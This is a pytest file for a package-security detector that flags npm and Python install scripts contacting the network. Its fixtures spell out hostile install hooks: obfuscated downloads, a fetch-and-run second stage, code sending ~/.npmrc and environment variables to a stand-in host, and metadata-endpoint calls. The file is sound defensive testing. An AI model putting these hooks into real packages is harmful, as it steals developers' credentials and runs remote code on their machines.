"""Install steps that reach the network are told once a package; local ones, and what other rules tell, are not."""

from __future__ import annotations

import pytest
from packageurl.contrib.purl2url import get_download_url

from app.core.specimen import ArtifactFacts
from tests.detectors.artifacts import findings, npm, places, sdist, told, wheel
from worker.detectors import install_network

REGISTRY = get_download_url("pkg:npm/x@1").partition("/x/")[0]  # type: ignore[no-untyped-call]


def installs(source: str, **files: str) -> ArtifactFacts:
    """A tarball whose install step runs this source."""
    return npm({"scripts/setup.js": source, **files}, scripts={"postinstall": "node scripts/setup.js"})


class TestAlarm:
    @pytest.mark.parametrize(
        "source",
        [
            "require('https').get('https://files.example/x', (r) => r.pipe(require('fs').createWriteStream('x')));",
            "const { request: r } = require('ht' + 'tps'); r({ host: 'files.example' }).end();",
            "fetch(`https://${'files'}.example/ping`, { method: 'POST' });",
            "globalThis['fet' + 'ch']('https://files.example/');",
            "const a = require('axios').create({ baseURL: 'https://files.example' }); a.get('https://files.example/v');",
            "fetch(Buffer.from('aHR0cHM6Ly9maWxlcy5leGFtcGxlL3g=', 'base64').toString());",
            "require('child_process').execSync('curl -O https://files.example/x.tgz');",
            "new (require('ws'))('wss://files.example/');",
            "require('dns').resolve('files.example', () => {});",
        ],
    )
    def test_the_ways_of_javascript(self, source: str) -> None:
        assert told(findings(install_network, installs(source))) == ["high: its install step talks to files.example"]

    @pytest.mark.parametrize(
        "source",
        [
            "import urllib.request\nurllib.request.urlretrieve('https://files.example/x.zip', 'x.zip')\n",
            "import requests as r\ngetattr(r, 'ge' + 't')('https://files.example/x')\n",
            "u = __import__('urllib.request', fromlist=['x'])\nu.urlopen('https://files.example/x')\n",
            "import socket\nsocket.create_connection(('files.example', 80))\n",
            "import subprocess\nsubprocess.check_call(['wget', 'https://files.example/x'])\n",
            "import os\nos.system('git clone https://files.example/x.git')\n",
            "from setuptools import setup\nfrom setuptools.command.install import install\n\n\nclass Install(install):\n    def run(self):\n        import urllib.request\n        urllib.request.urlopen('https://files.example/')\n\n\nsetup(name='x', cmdclass={'install': Install})\n",
        ],
    )
    def test_the_ways_of_python(self, source: str) -> None:
        assert told(findings(install_network, sdist({"setup.py": source}))) == [
            "high: its install step talks to files.example"
        ]

    @pytest.mark.parametrize("command", ["curl -so x https://files.example/x", "wget https://files.example/x.bin"])
    def test_a_command_of_the_manifest(self, command: str) -> None:
        assert told(findings(install_network, npm(scripts={"preinstall": command}))) == [
            "high: its install step talks to files.example"
        ]

    def test_a_file_that_the_step_loads_and_one_that_it_starts(self) -> None:
        source = "fetch('https://files.example/x');"
        loaded = installs("require('../lib/fetch');", **{"lib/fetch.js": source})
        started = installs("require('child_process').fork('./lib/fetch.js');", **{"lib/fetch.js": source})
        for artifact in (loaded, started):
            (found,) = findings(install_network, artifact)
            assert places(found)[-1] == "lib/fetch.js:1"

    def test_a_build_backend_of_the_package_s_own(self) -> None:
        files = {
            "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
            "backend.py": "import urllib.request\nurllib.request.urlopen('https://files.example/')\n",
        }
        assert told(findings(install_network, sdist(files))) == ["high: its install step talks to files.example"]

    def test_many_places_are_one_finding_with_the_first_lines(self) -> None:
        source = "".join(f"fetch('https://f{number}.example/');\n" for number in range(9))
        (found,) = findings(install_network, installs(source))
        assert found.message.plain() == "its install step talks to f0.example and 8 more"
        assert places(found) == ["package.json:5", *(f"scripts/setup.js:{line}" for line in (1, 2, 3))]

    def test_a_host_that_is_computed(self) -> None:
        assert told(findings(install_network, installs("fetch(process.argv[2]);"))) == [
            "high: its install step uses the network"
        ]

    def test_a_new_host_in_an_upgrade_is_new(self) -> None:
        old, new = installs("fetch('https://files.example/');"), installs("fetch('https://other.example/');")
        assert [found.new for found in findings(install_network, new, old)] == [True]


class TestInnocentTwin:
    def test_what_is_fetched_from_the_registry_itself_is_only_monitored(self) -> None:
        """The shape of installers whose program is in a package of its own."""
        source = f"require('https').get('{REGISTRY}/@tool/linux-x64/-/linux-x64-1.0.0.tgz', (r) => r.resume());"
        assert [str(found.severity) for found in findings(install_network, installs(source))] == ["medium"]

    def test_a_program_that_is_fetched_and_run_is_told_by_its_own_rule(self) -> None:
        source = "const fs = require('fs');\nfetch('https://files.example/x').then((r) => r.text()).then((t) => {\n  fs.writeFileSync('/tmp/stage2.js', t);\n  require('child_process').execSync('node /tmp/stage2.js');\n});\n"
        assert findings(install_network, installs(source)) == []

    def test_secrets_that_are_sent_are_told_by_their_own_rules(self) -> None:
        theft = """
const fs = require('fs'), os = require('os'), https = require('https');
const text = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
const req = https.request({ host: 'drop.example', method: 'POST' });
req.end(text);
"""
        harvest = "const r = require('https').request({ host: 'drop.example' });\nr.end(JSON.stringify(process.env));\n"
        assert findings(install_network, installs(theft)) == []
        assert findings(install_network, installs(harvest)) == []
        other = "require('https').get('https://files.example/x');"
        assert told(findings(install_network, installs(theft + other))) == [
            "high: its install step talks to files.example"
        ]

    @pytest.mark.parametrize(
        "source",
        [
            "fetch('http://localhost:8080/');",
            "fetch('https://webhook.site/x'); fetch('http://169.254.169.254/latest/');",  # rules of their own
            "console.log('Thank you for using this. Visit https://opencollective.example/x');",
            "const url = 'https://files.example/'; module.exports = url;",
        ],
    )
    def test_ordinary_install_steps(self, source: str) -> None:
        assert findings(install_network, installs(source)) == []

    @pytest.mark.parametrize("command", ["node-gyp rebuild", "prebuild-install || node-gyp rebuild", "husky install"])
    def test_tools_that_are_packages_of_their_own(self, command: str) -> None:
        assert findings(install_network, npm(scripts={"install": command})) == []

    def test_a_setup_script_that_only_describes(self) -> None:
        source = "from setuptools import setup\nsetup(name='x', url='https://code.example/x', download_url='https://files.example/x')\n"
        assert findings(install_network, sdist({"setup.py": source})) == []

    def test_imported_code_is_no_install_step(self) -> None:
        assert findings(install_network, npm({"index.js": "fetch('https://api.example/');"})) == []
        source = "import requests\nrequests.get('https://api.example/')\n"
        assert findings(install_network, wheel({"imgpress/__init__.py": source})) == []

    def test_what_the_old_version_did_is_not_new(self) -> None:
        old = installs("fetch('https://files.example/');")
        assert [found.new for found in findings(install_network, old, old)] == [False]
